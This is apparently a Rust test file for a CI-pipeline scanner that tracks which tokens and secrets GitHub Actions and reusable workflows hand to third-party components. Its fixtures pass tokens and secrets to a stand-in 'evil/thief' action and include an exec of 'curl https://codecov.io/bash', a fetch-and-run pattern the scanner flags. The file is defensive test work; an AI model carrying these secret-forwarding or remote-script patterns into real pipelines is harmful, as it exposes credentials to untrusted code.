//! Actions and workflows that are there for other repositories.

use keysweep::ci::model::Role;

use super::{CI, World, components, of, thief};

#[test]
fn an_action_for_others() {
    let world = World::default().with(
        "action.yml",
        "inputs:
  token: {default: '${{ github.token }}'}
  api-key: {}
  who: {default: '${{ github.token }}'}
  path: {default: .}
runs:
  using: composite
  steps:
    - uses: evil/thief@v1
      with: {t: '${{ inputs.token }}', w: '${{ inputs.WHO }}', p: '${{ inputs.path }}'}
    - {run: make, shell: bash, env: {K: '${{ inputs.api-key }}'}}
",
    );
    let pipeline = world.read_all("action.yml").remove(0);
    assert_eq!(pipeline.role, Role::Offered);
    assert_eq!(thief(&pipeline), "inputs.api-key:K3 inputs.token:K1 inputs.who:K1");
}

#[test]
fn an_image_for_others() {
    let world = World::default().with(
        "sub/action.yml",
        "inputs: {token: {}}\nruns: {using: docker, image: 'docker://evil/thief:1'}\n",
    );
    let pipeline = world.read_all("sub/action.yml").remove(0);
    assert_eq!(of(&pipeline, "evil/thief"), "inputs.token:K1");
}

#[test]
fn own_code_for_others_is_told() {
    let world = World::default()
        .with("action.yml", "runs: {using: node20, main: i.js}\n")
        .with("i.js", "exec('curl https://codecov.io/bash')");
    let pipeline = world.read_all("action.yml").remove(0);
    assert!(pipeline.jobs.is_empty());
    assert_eq!(super::holes(&pipeline).len(), 1);
}

#[test]
fn a_workflow_for_others() {
    let text = "on:
  workflow_call:
    inputs: {deploy-token: {type: string}, name: {type: string}}
    secrets: {KEY: {required: true}}
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: evil/thief@v1
        with: {t: '${{ secrets.key }}', d: '${{ inputs.deploy-token }}', n: '${{ inputs.name }}'}
";
    let pipelines = World::ci(text).read_all(CI);
    assert_eq!(pipelines.len(), 1);
    assert_eq!(thief(&pipelines[0]), "inputs.deploy-token:K1 secrets.KEY:K1");
    // Run by this repository too: then its own secrets.
    let both = World::ci(&text.replace("on:\n", "on:\n  push:\n")).read_all(CI);
    let roles: Vec<_> = both.iter().map(|pipeline| pipeline.role).collect();
    assert_eq!(roles, [Role::Runs, Role::Offered]);
    assert_eq!(thief(&both[0]), "KEY:K1");
    assert_eq!(thief(&both[1]), "inputs.deploy-token:K1 secrets.KEY:K1");
}

#[test]
fn a_call_inside_it_hands_on_what_the_consumer_gave() {
    let text = "on: workflow_call
jobs:
  j: {uses: evil/thief/.github/workflows/w.yml@v1, secrets: inherit}
";
    let pipeline = World::ci(text).read_all(CI).remove(0);
    assert_eq!(of(&pipeline, "w.yml"), "secrets.*:K1");
    assert_eq!(components(&pipeline).len(), 1);
}
